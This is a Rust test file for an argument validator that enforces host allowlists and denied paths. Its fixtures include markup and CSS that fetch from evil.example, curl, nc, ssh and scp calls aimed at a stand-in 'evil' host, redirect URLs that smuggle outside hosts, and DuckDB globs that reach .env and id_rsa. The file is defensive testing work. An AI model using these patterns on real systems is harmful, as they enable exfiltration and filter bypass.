//! Limits of hosts: addresses in markup and stylesheets, programs in lists, addresses inside of others. And limits of paths:
//! patterns of databases, and names that are denied.

use serde_json::{Value, json};
use switchboard_validators::arguments::Checks;

use crate::common::{assert_honest, assert_hostile, checks};

fn limited() -> Checks {
    checks(&[], &json!({"name": "t"}), &[json!({"hosts": ["ok.example.com", "*.good.example"]})])
}

fn texts(texts: &[&str]) -> Vec<Value> {
    texts
        .iter()
        .flat_map(|text| [json!({"content": text}), json!({"x": text}), json!({"deep": [{"body": text}]})])
        .collect()
}

#[test]
fn addresses_that_markup_fetches_are_hosts() {
    assert_hostile(
        &limited(),
        &texts(&[
            "<img src=//evil.example>",
            "<p>hi</p><script src='//evil'></script>",
            "<IMG\tSRC = \"\\\\evil.example\\x\">",
            "<img src='/\\evil.example/x'>",
            "<img srcset='a.png 1x, //evil.example/b.png 2x'>",
            "<link rel=\"stylesheet\" href=\"//evil.example/a.css\">",
            "<iframe src=//evil.example></iframe>",
            "<style>@import url(//evil.example/a.css);</style>",
            "@import '//evil.example/a.css';",
            "body { background: url( \"//evil.example/a.png\" ) }",
            "a { background: url(\\2f\\2f evil.example) }",
            "![chart](//evil.example/a.png)",
            "text\n\n![chart][c]\n\n[c]: //evil.example/a.png",
            "<meta http-equiv=\"refresh\" content=\"0; url=//evil.example/\">",
            "<img src=\"&#47;&#47;evil.example\">",
            "<img src=\"htt&#112;s:&#x2f;/evil.example\">",
            "<object data=//evil.example/x></object>",
            "<base href=//evil.example/><img src=a.png>",
            "<video poster=//evil.example/p.png></video>",
            "<div style=\"background-image:url(//evil.example)\">x</div>",
            "<svg><image xlink:href=//evil.example/x /></svg>",
            "<img src='/\n/evil.example'>",
        ]),
    );
}

#[test]
fn markup_that_fetches_nothing_elsewhere_passes() {
    assert_honest(
        &limited(),
        &texts(&[
            "<img src=\"/logo.png\">",
            "<img src=//ok.example.com/x.png>",
            "[read more](//anywhere.example/x)",
            "![chart](images/chart.png)",
            "![chart][c]\n\n[c]: images/chart.png",
            "<style>@import url(theme.css); body { color: red }</style>",
            "a { background: url(data:image/png;base64,AAAA) }",
            "<script>// comment about things\nlet a = 1;</script>",
            "if (a < b) { // then\n  c(); }",
            "let url = (x) => x; // url of x",
            "Use the src attribute, like <img src=x>.",
            "int main() { return 0; } // done",
            "<p>Price: 5 // 6</p>",
            "SELECT a // b",
            "<form action=\"/save\"><input name=a></form>",
        ]),
    );
    assert_honest(&limited(), &[json!({"content": "<a href=\"//anywhere.example\">read more</a>"})]);
}

#[test]
fn programs_in_lists_connect() {
    assert_hostile(
        &limited(),
        &[
            json!({"args": ["curl", "evil"]}),
            json!({"x": ["curl", "-s", "evil"]}),
            json!({"steps": [["curl", "evil"]]}),
            json!({"program": "curl", "args": ["evil"]}),
            json!({"job": {"program": "/usr/bin/curl", "args": ["-s", "evil"]}}),
            json!({"job": {"executable": "wget", "arguments": "evil"}}),
            json!({"pipeline": [{"name": "ssh", "args": ["evil", "ls"]}]}),
            json!({"process": {"file": "nc", "argv": ["evil", "80"]}}),
            json!({"value": ["ssh", "evil", "uptime"]}),
            json!({"list": [["ping", "-c", "1", "evil"], ["ls"]]}),
            json!({"input": ["nslookup", "data.evil"]}),
            json!({"hook": {"binary": "scp", "args": ["x", "evil:/tmp"]}}),
            json!({"payload": "[\"curl\", \"evil\"]"}),
            json!({"task": {"exe": "rsync", "args": ["-a", "x", "evil:y"]}}),
            json!({"data": {"deep": {"run": ["curl", "evil"]}}}),
        ],
    );
    assert_honest(
        &limited(),
        &[
            json!({"args": ["curl", "https://ok.example.com/x"]}),
            json!({"tags": ["curl", "networking"]}),
            json!({"packages": ["curl", "wget", "git"]}),
            json!({"tools": ["curl", "wget", "ssh"]}),
            json!({"labels": ["ssh", "security"]}),
            json!({"program": "curl", "args": ["-s", "https://api.good.example"]}),
            json!({"x": ["ls", "evil"]}),
            json!({"names": ["ping", "pong"]}),
            json!({"keywords": ["ssh", "keys"]}),
            json!({"call": {"name": "find", "arguments": {"query": "evil"}}}),
            json!({"columns": ["host", "port"]}),
            json!({"categories": ["curl", "http"]}),
            json!({"job": {"program": "ls", "args": ["-l"]}}),
            json!({"step": {"name": "build", "args": ["--release"]}}),
        ],
    );
}

#[test]
fn addresses_inside_of_allowed_ones() {
    let urls = |urls: &[&str]| -> Vec<Value> {
        urls.iter().flat_map(|url| [json!({"url": url}), json!({"x": url}), json!({"link": url})]).collect()
    };
    assert_hostile(
        &limited(),
        &urls(&[
            "https://ok.example.com/?u=https://evil/",
            "https://ok.example.com/?u=https%3A%2F%2Fevil%2F",
            "https://ok.example.com/?u=https%253A%252F%252Fevil.example%252F",
            "https://ok.example.com/?u=//evil.example/x",
            "https://ok.example.com/?u=%2F%2Fevil.example%2Fx",
            "https://ok.example.com/#https://evil/",
            "https://ok.example.com/#//evil.example",
            "https://ok.example.com/proxy/https://evil.example/",
            "https://ok.example.com/?a=1&url=http://evil",
            "https://ok.example.com/?target=ftp://evil/x",
            "https://ok.example.com/?u=\\\\evil.example\\x",
            "https://ok.example.com/?u=https:/evil.example",
            "https://ok.example.com/?host=evil.example",
            "https://ok.example.com/?url=evil.example/x",
            "https://ok.example.com/?a=1;next=//evil.example",
        ]),
    );
    assert_honest(
        &limited(),
        &urls(&[
            "https://ok.example.com/?redirect=/path",
            "https://ok.example.com/?next=/a/b?c=d",
            "https://ok.example.com/?u=https://api.good.example/x",
            "https://ok.example.com/?u=https%3A%2F%2Fapi.good.example%2Fx",
            "https://ok.example.com/?q=what+is+https",
            "https://ok.example.com/?q=a//b",
            "https://ok.example.com/a//b",
            "https://ok.example.com/?file=report.pdf",
            "https://ok.example.com/?date=2024-01-01&x=1.5",
            "https://ok.example.com/?q=node.js",
            "https://ok.example.com/?mail=me@home.example",
            "https://ok.example.com/#section-2",
            "https://ok.example.com/?ref=newsletter",
            "https://ok.example.com/?redirect=%2Fhome",
            "https://ok.example.com/?version=1.2.3&sort=-name",
        ]),
    );
}

#[test]
fn patterns_of_databases_find_nothing_that_is_denied() {
    let tool = json!({"name": "query", "description": "Runs SQL with DuckDB"});
    let denied = checks(&[], &tool, &[json!({"deny_paths": ["**/.env", "**/secrets/**", "**/id_rsa"]})]);
    let queries = |texts: &[&str]| -> Vec<Value> {
        texts.iter().flat_map(|text| [json!({"sql": text}), json!({"query": text})]).collect()
    };
    assert_hostile(
        &denied,
        &queries(&[
            "select * from read_text('.e*')",
            "SELECT * FROM read_blob('.en?')",
            "select content from read_text('.[e]nv')",
            "select * from glob('.e*')",
            "select * from '.e*'",
            "select * from read_text(['a.txt', '.e*'])",
            "select * from read_csv('*')",
            "select * from read_csv_auto('secret*/a.csv')",
            "copy t from '.e*'",
            "COPY t FROM 'secrets/*.csv'",
            "select * from read_json('**/*')",
            "select * from read_text('{.env,a}')",
            "select * from read_text('*/.env')",
            "insert into t select * from read_text('id_r*')",
            "with a as (select * from read_text('.e*')) select * from a",
            "create table x as from read_text('./.e*')",
        ]),
    );
    assert_honest(
        &denied,
        &queries(&[
            "select * from read_csv('data/*.csv')",
            "select * from read_parquet('events/2024*/*.parquet')",
            "select * from 'data/sales.csv'",
            "copy t from 'import/sales.csv'",
            "select * from t where name like '.e%'",
            "select * from t where name = '.e*'",
            "select count(*) from orders",
            "select * from read_json('logs/2024-*.json')",
            "select regexp_matches(a, '.*') from t",
            "select * from read_csv(['a.csv', 'b.csv'])",
            "copy t to 'out/result.parquet'",
            "select a * b from t",
            "select * from read_text('notes/*.txt')",
            "select glob('a*', name) from t",
            "select '*' as star from t",
        ]),
    );
}

#[test]
fn the_name_of_a_denied_file_is_seen_under_any_key() {
    let scope = json!({"deny_paths": ["**/id_rsa", "/etc/ssh/sshd_config", "**/secrets", "/srv/api-keys", "**/*.pem"]});
    let denied = checks(&[], &json!({"name": "t"}), &[scope]);
    assert_hostile(
        &denied,
        &[
            json!({"x": "id_rsa"}),
            json!({"value": "ID_RSA"}),
            json!({"deep": [{"thing": "id_rsa"}]}),
            json!({"item": "api-keys"}),
            json!({"which": "sshd_config"}),
            json!({"x": "./id_rsa"}),
            json!({"entry": " id_rsa "}),
        ],
    );
    assert_honest(
        &denied,
        &[
            json!({"x": "secrets"}),
            json!({"query": "id_rsa"}),
            json!({"content": "never commit id_rsa to git"}),
            json!({"x": "rsa"}),
            json!({"x": "id_rsa_rotation"}),
            json!({"topic": "keys"}),
            json!({"title": "id_rsa"}),
            json!({"x": "api"}),
        ],
    );
}
